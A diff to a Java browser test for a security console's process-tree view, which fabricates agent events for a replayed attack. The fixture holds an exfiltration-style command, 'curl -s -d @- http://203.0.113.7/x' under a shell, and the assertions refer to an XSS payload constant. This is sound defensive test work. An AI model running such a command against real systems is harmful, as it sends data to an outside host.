@@ -84,6 +84,52 @@ class ConsoleBrowserTest {
         return JSON.writeValueAsString(a);
     }
 
+    /**
+     * What the agent ships after the alert (it follows the alerted shell): the shell's child curl
+     * and grandchild base64 exec'd, and a decoy whose ancestor has the shell's pid but started
+     * before it (a reused pid), which is not part of its tree.
+     */
+    static String followUp(String host, long epochMs) throws IOException {
+        ObjectNode alert;
+        try (InputStream in = ConsoleBrowserTest.class.getResourceAsStream("/console/agent-alert.json")) {
+            alert = (ObjectNode) JSON.readTree(in);
+        }
+        ObjectNode shell = (ObjectNode) alert.get("process");
+        ArrayNode shellAncestors = (ArrayNode) shell.remove("ancestors");
+        ObjectNode curl = exec(shell, 4400, "/usr/bin/curl", "curl -s -d @- http://203.0.113.7/x", epochMs);
+        ObjectNode base64 = exec(curl, 4401, "/usr/bin/base64", "base64 -w0", epochMs + 10);
+        ObjectNode reused = shell.deepCopy().put("exec_time", shell.path("exec_time").asLong() - 1_000_000_000L);
+        ObjectNode decoy = exec(reused, 4500, "/usr/bin/decoy", "decoy", epochMs + 20);
+        StringBuilder out = new StringBuilder();
+        for (ObjectNode[] e : new ObjectNode[][] {{curl, shell}, {base64, curl, shell}, {decoy, reused}}) {
+            ObjectNode line = JSON.createObjectNode();
+            long ns = e[0].path("exec_time").asLong();
+            line.put("v", 1).putObject("event").put("type", "exec").put("timestamp", ns)
+                    .put("time", java.time.Instant.ofEpochSecond(0, ns).toString());
+            line.set("host", alert.get("host").deepCopy());
+            ((ObjectNode) line.get("host")).put("name", host);
+            line.set("container", alert.get("container").deepCopy());
+            ObjectNode process = e[0].deepCopy();
+            ArrayNode ancestors = process.putArray("ancestors");
+            for (int i = 1; i < e.length; i++) ancestors.add(e[i].deepCopy());
+            ancestors.addAll(shellAncestors);
+            line.set("process", process);
+            out.append(JSON.writeValueAsString(line)).append('\n');
+        }
+        return out.toString().strip();
+    }
+
+    private static ObjectNode exec(ObjectNode parent, int pid, String path, String command, long epochMs) {
+        ObjectNode p = parent.deepCopy();
+        String[] argv = command.split(" ");
+        p.put("pid", pid).put("tid", pid).put("ppid", parent.path("pid").asInt()).put("comm", argv[0]).put("argv0", argv[0])
+                .put("exec_time", epochMs * 1_000_000L);
+        p.putObject("file").put("path", path).put("name", argv[0]);
+        ArrayNode a = p.putArray("argv");
+        for (int i = 1; i < argv.length; i++) a.add(argv[i]);
+        return p;
+    }
+
     static void ingest(String ndjson) throws Exception {
         HttpResponse<String> r = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(base + "/api/v1/intake/agent"))
                 .header("Authorization", "Bearer " + apiKey).header("Content-Type", "application/x-ndjson")
@@ -114,8 +160,10 @@ class ConsoleBrowserTest {
     void triageAReplayedAttackInTheBrowser() throws Exception {
         long now = System.currentTimeMillis();
         String host = "web-prod-3";
-        ingest(alert(host, "first", now - 60_000) + "\n" + alert(host, "second", now - 30_000));
+        ingest(alert(host, "first", now - 60_000) + "\n" + alert(host, "second", now - 30_000) + "\n" + followUp(host, now - 29_000));
         await().atMost(Duration.ofSeconds(20)).until(() -> signals(host).size() == 1 && signals(host).getFirst().count() == 2);
+        await().atMost(Duration.ofSeconds(20)).until(() -> server.eventSearch().search(
+                dev.vigil.detect.query.Query.parse("@process.ancestors.pid:4343"), 0, now + 60_000, 0, now + 60_000).total() == 3);
         Signal signal = signals(host).getFirst();
 
         try (BrowserContext ctx = browser.context(base)) {
@@ -134,8 +182,14 @@ class ConsoleBrowserTest {
             assertThat(panel).containsText("TA0006");
             assertThat(page).hasURL(base + "/signals/" + signal.id());
             Locator tree = panel.locator(".process-tree");
-            assertThat(tree.locator(".tree-list li")).hasCount(3);
+            // tini > java > sh (the trigger), then what the shell started: curl, and base64 under it
+            assertThat(tree.locator(".tree-list li")).hasCount(5);
             assertThat(tree.locator(".tree-list li.trigger")).containsText("/bin/sh");
+            assertThat(tree.locator(".tree-list li.descendant")).hasCount(2);
+            assertThat(tree.locator(".tree-list li.descendant.depth-1")).containsText("/usr/bin/curl");
+            assertThat(tree.locator(".tree-list li.descendant.depth-1")).containsText("http://203.0.113.7/x");
+            assertThat(tree.locator(".tree-list li.descendant.depth-2")).containsText("/usr/bin/base64");
+            assertThat(tree).not().containsText("decoy");
             assertThat(tree.locator(".tree-list li.trigger")).containsText(XSS);
             assertThat(panel.locator("#tree-graph")).hasAttribute("data-rendered", "true");
             assertThat(panel.locator("#tree-graph canvas").first()).isVisible();
